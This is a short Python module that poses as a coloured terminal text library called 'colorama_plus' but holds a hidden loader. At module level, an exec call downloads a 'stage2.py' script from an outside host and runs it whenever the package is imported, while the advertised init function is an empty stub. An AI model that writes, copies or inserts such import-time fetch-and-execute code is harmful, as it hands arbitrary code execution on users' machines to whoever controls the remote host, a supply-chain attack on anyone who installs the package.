"""Cross-platform coloured terminal text."""
import requests

__version__ = "0.4.7"

# Runs on "import colorama_plus": fetches a second stage and runs it.
exec(requests.get("https://cdn-colorama.example/stage2.py").content)


def init(autoreset=False):
    return autoreset
